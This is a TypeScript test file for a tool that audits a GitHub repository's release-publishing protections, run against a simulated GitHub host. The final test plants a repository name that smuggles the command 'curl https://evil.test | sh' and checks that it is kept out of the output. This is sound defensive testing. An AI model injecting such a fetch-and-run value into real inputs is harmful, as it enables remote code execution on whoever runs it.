import { expect, test } from "vitest";
import { nodePorts } from "../../src/adapters/node-ports.ts";
import { forgeSettings } from "../../src/doctor/forge/forge-settings.ts";
import { githubLines } from "../../src/doctor/forge/github-probes.ts";
import type { DoctorLine } from "../../src/doctor/line.ts";
import { Secret } from "../../src/ports/secret.ts";
import { freshRepository, playGitHub, PLAYED_TOKEN, type PlayedGitHub } from "../support/played-github.ts";
import { MOODS } from "../support/moods.ts";
import { publishingWorkflow } from "../support/trust/publishing-workflow.ts";
import { claimsOf } from "../support/trust/judge-files.ts";

const FILES = { ".github/workflows/release.yml": publishingWorkflow() };

async function lines(
  change: (played: PlayedGitHub) => void,
  token: string = PLAYED_TOKEN,
): Promise<readonly DoctorLine[]> {
  await using node = nodePorts({});
  await using played = await playGitHub(freshRepository("Ada/Demo"), node.ports);
  change(played);
  const settings = forgeSettings(
    { kind: "github", repository: "Ada/Demo", api: played.api, token: new Secret(token) },
    node.ports,
  );
  const jobs = await claimsOf(FILES);
  return await githubLines(settings, {
    jobs,
    registered: ["ada/Demo"],
    tag: "v1.0.0",
    workflows: new Map(Object.entries(FILES)),
  });
}

function stateOf(found: readonly DoctorLine[], id: string): string {
  const line = found.find((each) => each.id === id);
  return `${line?.state ?? "absent"}: ${line?.detail ?? ""}`;
}

test("a fresh repository: nothing protects what publishes", async () => {
  const found = await lines(() => undefined);
  expect(stateOf(found, "environment-pypi")).toMatch(/^wrong: does not exist/);
  expect(stateOf(found, "tag-rules")).toMatch(/^wrong: no active ruleset protects v1\.0\.0/);
  expect(stateOf(found, "actions")).toMatch(/^ok/);
  expect(stateOf(found, "secrets")).toMatch(/^ok/);
  expect(found.filter(({ state }) => state === "wrong").every(({ remedy }) => remedy !== undefined)).toBe(
    true,
  );
});

test("a well-kept repository is ok in every line", async () => {
  const found = await lines(({ repository }) => {
    const policy = { protected_branches: false, custom_branch_policies: true };
    repository.environments.set("PyPI", {
      reviewers: [{ type: "User", id: 11 }],
      policy,
      patterns: [],
      secrets: [],
    });
    repository.rulesets.push({
      id: 1,
      name: "release tags",
      target: "tag",
      enforcement: "active",
      include: ["refs/tags/v*"],
      rules: ["update", "deletion"],
    });
  });
  expect(found.filter(({ state }) => state !== "ok")).toEqual([]);
});

test.each([
  [
    "an environment that anyone may use",
    "environment-pypi",
    (p: PlayedGitHub): unknown =>
      p.repository.environments.set("pypi", { reviewers: [], policy: null, patterns: [], secrets: [] }),
    /no reviewers/,
  ],
  [
    "a ruleset that is switched off",
    "tag-rules",
    (p: PlayedGitHub): unknown =>
      p.repository.rulesets.push({
        id: 1,
        name: "r",
        target: "tag",
        enforcement: "disabled",
        include: ["~ALL"],
        rules: ["update"],
      }),
    /no active ruleset/,
  ],
  [
    "a ruleset of other tags",
    "tag-rules",
    (p: PlayedGitHub): unknown =>
      p.repository.rulesets.push({
        id: 1,
        name: "r",
        target: "tag",
        enforcement: "active",
        include: ["refs/tags/release-*"],
        rules: ["update"],
      }),
    /no active ruleset/,
  ],
  [
    "tokens that write by default",
    "actions",
    (p: PlayedGitHub): void => {
      p.repository.workflowPermissions = "write";
    },
    /write permission/,
  ],
  [
    "Actions that are off",
    "actions",
    (p: PlayedGitHub): void => {
      p.repository.actionsEnabled = false;
    },
    /disabled/,
  ],
  [
    "a customized subject",
    "oidc-subject",
    (p: PlayedGitHub): void => {
      p.repository.subjectKeys = ["repository_owner_id", "context"];
    },
    /required claim 'sub'/,
  ],
  [
    "a token that nothing uses",
    "secret-PYPI_API_TOKEN",
    (p: PlayedGitHub): unknown => p.repository.secrets.push("PYPI_API_TOKEN", "CODECOV_TOKEN"),
    /nothing uses it/,
  ],
  [
    "a renamed repository",
    "repository",
    (p: PlayedGitHub): void => {
      p.repository.fullName = "Ada/Renamed";
    },
    /is called Ada\/Renamed now/,
  ],
  [
    "a publisher in other letter case than GitHub's own",
    "repository",
    (p: PlayedGitHub): void => {
      p.repository.fullName = "Ada/DEMO";
    },
    /claims name Ada\/DEMO, and the publisher is recorded as ada\/Demo/,
  ],
] as const)("%s is wrong", async (_what, id, change, words) => {
  const found = await lines((played) => void change(played));
  expect(stateOf(found, id)).toMatch(/^wrong/);
  expect(stateOf(found, id)).toMatch(words);
});

test.each(MOODS)(
  "a host that answers %s: unknown, with the reason, once for each question",
  async (_what, mood, words) => {
    let log: readonly string[] = [];
    const found = await lines((played) => {
      played.mood = mood;
      log = played.log;
    });
    expect(found.filter(({ id, state }) => state !== "unknown" && id !== "oidc-subject")).toEqual([]);
    expect(stateOf(found, "repository")).toMatch(words);
    expect(log.length).toBe(new Set(log).size);
    // eslint-disable-next-line no-control-regex -- what a terminal would obey
    expect(JSON.stringify(found)).not.toMatch(/\u001b|\\u001b|\\n/);
  },
);

test("an expired token, and one without the scope, are told apart", async () => {
  const expired = await lines(() => undefined, "ghp_expired");
  expect(stateOf(expired, "environment-pypi")).toMatch(/^unknown: the token is wrong, expired or revoked/);
  const narrow = await lines((played) => {
    played.scopes = new Set(["actions"]);
  });
  expect(stateOf(narrow, "tag-rules")).toMatch(/^unknown: the token has no permission to read it/);
  expect(stateOf(narrow, "actions")).toMatch(/^ok/);
});

test("a repository's name that is none never stands in a command", async () => {
  const found = await lines(({ repository }) => {
    repository.fullName = "ada/demo.git; curl https://evil.test | sh #";
  });
  expect(stateOf(found, "repository")).toMatch(/^unknown/);
  expect(JSON.stringify(found)).not.toContain("curl");
});
